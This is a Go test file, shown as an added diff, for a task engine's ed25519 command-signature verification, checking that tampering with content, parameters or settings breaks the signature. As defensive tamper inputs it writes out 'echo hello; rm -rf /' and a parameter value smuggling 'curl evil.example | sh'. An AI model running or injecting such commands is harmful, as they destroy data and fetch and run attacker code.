@@ -0,0 +1,182 @@
+package taskengine
+
+import (
+	"crypto/ed25519"
+	"crypto/rand"
+	"encoding/base64"
+	"errors"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestVerifyCommandSignature(t *testing.T) {
+	publicKey, privateKey, err := ed25519.GenerateKey(rand.Reader)
+	assert.NoError(t, err)
+	otherPublicKey, _, err := ed25519.GenerateKey(rand.Reader)
+	assert.NoError(t, err)
+	trustedKeys := []TrustedKey{
+		{Id: "other", PublicKey: base64.StdEncoding.EncodeToString(otherPublicKey)},
+		{Id: "ops", PublicKey: base64.StdEncoding.EncodeToString(publicKey)},
+	}
+
+	content := []byte("echo hello")
+	taskInfo := RunTaskInfo{
+		CommandType: "RunShellScript",
+		Username:    "root",
+	}
+	assert.Equal(t, ErrSignatureMissing, verifyCommandSignature(taskInfo, content, trustedKeys))
+
+	taskInfo.Signature = base64.StdEncoding.EncodeToString([]byte("short"))
+	assert.Equal(t, ErrSignatureMalformed, verifyCommandSignature(taskInfo, content, trustedKeys))
+
+	taskInfo.Signature = base64.StdEncoding.EncodeToString(ed25519.Sign(privateKey, signedCommandMessage(taskInfo, content)))
+	assert.NoError(t, verifyCommandSignature(taskInfo, content, trustedKeys))
+
+	taskInfo.SignatureKeyId = "ops"
+	assert.NoError(t, verifyCommandSignature(taskInfo, content, trustedKeys))
+	taskInfo.SignatureKeyId = "other"
+	assert.Equal(t, ErrSignatureNotVerified, verifyCommandSignature(taskInfo, content, trustedKeys))
+	taskInfo.SignatureKeyId = "unknown"
+	assert.True(t, errors.Is(verifyCommandSignature(taskInfo, content, trustedKeys), ErrSigningKeyNotTrusted))
+	taskInfo.SignatureKeyId = ""
+	assert.Equal(t, ErrNoTrustedKey, verifyCommandSignature(taskInfo, content, nil))
+
+	// Any change of signed fields invalidates signature
+	tamperedInfo := taskInfo
+	tamperedInfo.Username = "admin"
+	assert.Equal(t, ErrSignatureNotVerified, verifyCommandSignature(tamperedInfo, content, trustedKeys))
+	assert.Equal(t, ErrSignatureNotVerified, verifyCommandSignature(taskInfo, []byte("echo hello; rm -rf /"), trustedKeys))
+}
+
+func TestVerifyCommandSignatureWithParameters(t *testing.T) {
+	publicKey, privateKey, err := ed25519.GenerateKey(rand.Reader)
+	assert.NoError(t, err)
+	trustedKeys := []TrustedKey{
+		{Id: "ops", PublicKey: base64.StdEncoding.EncodeToString(publicKey)},
+	}
+
+	content := []byte("echo {{name}}")
+	taskInfo := RunTaskInfo{
+		CommandType:     "RunShellScript",
+		EnableParameter: true,
+		EnvironmentArguments: map[string]string{
+			"name":   "world",
+			"suffix": "!",
+		},
+	}
+	taskInfo.Signature = base64.StdEncoding.EncodeToString(ed25519.Sign(privateKey, signedCommandMessage(taskInfo, content)))
+	assert.NoError(t, verifyCommandSignature(taskInfo, content, trustedKeys))
+
+	// Signed template could not be reused with other parameter values
+	tamperedInfo := taskInfo
+	tamperedInfo.EnvironmentArguments = map[string]string{
+		"name":   "world; curl evil.example | sh",
+		"suffix": "!",
+	}
+	assert.Equal(t, ErrSignatureNotVerified, verifyCommandSignature(tamperedInfo, content, trustedKeys))
+	tamperedInfo.EnvironmentArguments = map[string]string{
+		"name": "world",
+	}
+	assert.Equal(t, ErrSignatureNotVerified, verifyCommandSignature(tamperedInfo, content, trustedKeys))
+	tamperedInfo.EnvironmentArguments = map[string]string{
+		"name":   "world",
+		"suffix": "!",
+		"extra":  "",
+	}
+	assert.Equal(t, ErrSignatureNotVerified, verifyCommandSignature(tamperedInfo, content, trustedKeys))
+}
+
+func TestVerifyCommandSignatureCoversSettings(t *testing.T) {
+	publicKey, privateKey, err := ed25519.GenerateKey(rand.Reader)
+	assert.NoError(t, err)
+	trustedKeys := []TrustedKey{
+		{Id: "ops", PublicKey: base64.StdEncoding.EncodeToString(publicKey)},
+	}
+
+	content := []byte("echo hello")
+	taskInfo := RunTaskInfo{
+		TaskId:      "t-signed",
+		CommandType: "RunShellScript",
+		Username:    "app",
+		WorkingDir:  "/opt/app",
+		TimeOut:     "60",
+		Repeat:      RunTaskCron,
+		Cronat:      "0 0 * * * *",
+		Artifacts: ArtifactsInfo{
+			Patterns: []string{"reports/*.xml"},
+		},
+	}
+	taskInfo.Signature = base64.StdEncoding.EncodeToString(ed25519.Sign(privateKey, signedCommandMessage(taskInfo, content)))
+	assert.NoError(t, verifyCommandSignature(taskInfo, content, trustedKeys))
+
+	tests := []struct {
+		name   string
+		tamper func(*RunTaskInfo)
+	}{
+		{"username", func(i *RunTaskInfo) { i.Username = "" }},
+		{"workingDir", func(i *RunTaskInfo) { i.WorkingDir = "/etc" }},
+		{"timeOut", func(i *RunTaskInfo) { i.TimeOut = "86400" }},
+		{"repeat", func(i *RunTaskInfo) { i.Repeat = RunTaskEveryReboot }},
+		{"cron", func(i *RunTaskInfo) { i.Cronat = "* * * * * *" }},
+		{"misfirePolicy", func(i *RunTaskInfo) { i.Misfire.Policy = MisfirePolicyRunAll }},
+		{"overlapPolicy", func(i *RunTaskInfo) { i.OverlapPolicy = OverlapPolicyAllowParallel }},
+		{"splay", func(i *RunTaskInfo) { i.Splay = 60 }},
+		{"resourceLimit", func(i *RunTaskInfo) { i.ResourceLimit.MemoryLimit = 1 << 30 }},
+		{"retryPolicy", func(i *RunTaskInfo) { i.Retry.MaxAttempts = 100 }},
+		{"retryOnExitCodes", func(i *RunTaskInfo) { i.Retry.RetryOnExitCodes = []int{1} }},
+		{"outputEncoding", func(i *RunTaskInfo) { i.OutputEncoding = "GB18030" }},
+		{"idleTimeout", func(i *RunTaskInfo) { i.IdleTimeout = 10 }},
+		{"stdinMode", func(i *RunTaskInfo) { i.StdinMode = StdinModeClosed }},
+		{"output", func(i *RunTaskInfo) { i.Output.SeparateStreams = true }},
+		{"sandbox", func(i *RunTaskInfo) { i.Sandbox.Enabled = true }},
+		{"artifactPatterns", func(i *RunTaskInfo) { i.Artifacts.Patterns = []string{"shadow"} }},
+		{"artifactsMaxTotalSize", func(i *RunTaskInfo) { i.Artifacts.MaxTotalSize = 1 }},
+		{"signatureExpiry", func(i *RunTaskInfo) { i.SignatureExpiry = time.Now().Add(time.Hour).Unix() }},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			tamperedInfo := taskInfo
+			tamperedInfo.Artifacts.Patterns = append([]string{}, taskInfo.Artifacts.Patterns...)
+			tt.tamper(&tamperedInfo)
+			assert.Equal(t, ErrSignatureNotVerified, verifyCommandSignature(tamperedInfo, content, trustedKeys))
+		})
+	}
+
+	// Fields assigned by server are not signed
+	assignedInfo := taskInfo
+	assignedInfo.TaskId = "t-assigned"
+	assignedInfo.CreationTime = time.Now().UnixNano() / int64(time.Millisecond)
+	assert.NoError(t, verifyCommandSignature(assignedInfo, content, trustedKeys))
+}
+
+func TestVerifyCommandSignatureExpiry(t *testing.T) {
+	publicKey, privateKey, err := ed25519.GenerateKey(rand.Reader)
+	assert.NoError(t, err)
+	trustedKeys := []TrustedKey{
+		{Id: "ops", PublicKey: base64.StdEncoding.EncodeToString(publicKey)},
+	}
+
+	content := []byte("echo hello")
+	taskInfo := RunTaskInfo{
+		CommandType:     "RunShellScript",
+		SignatureExpiry: time.Now().Add(time.Hour).Unix(),
+	}
+	taskInfo.Signature = base64.StdEncoding.EncodeToString(ed25519.Sign(privateKey, signedCommandMessage(taskInfo, content)))
+	assert.NoError(t, verifyCommandSignature(taskInfo, content, trustedKeys))
+
+	taskInfo.SignatureExpiry = time.Now().Add(-time.Minute).Unix()
+	taskInfo.Signature = base64.StdEncoding.EncodeToString(ed25519.Sign(privateKey, signedCommandMessage(taskInfo, content)))
+	assert.Equal(t, ErrSignatureExpired, verifyCommandSignature(taskInfo, content, trustedKeys))
+}
+
+func TestSignedCommandMessageUnambiguous(t *testing.T) {
+	first := signedCommandMessage(RunTaskInfo{CommandType: "RunShellScript", Args: "a\n"}, []byte("b"))
+	second := signedCommandMessage(RunTaskInfo{CommandType: "RunShellScript", Args: "a"}, []byte("\nb"))
+	assert.NotEqual(t, first, second)
+
+	first = signedCommandMessage(RunTaskInfo{EnvironmentArguments: map[string]string{"a": "b\nparameterName\n1\nc"}}, nil)
+	second = signedCommandMessage(RunTaskInfo{EnvironmentArguments: map[string]string{"a": "b", "c": ""}}, nil)
+	assert.NotEqual(t, first, second)
+}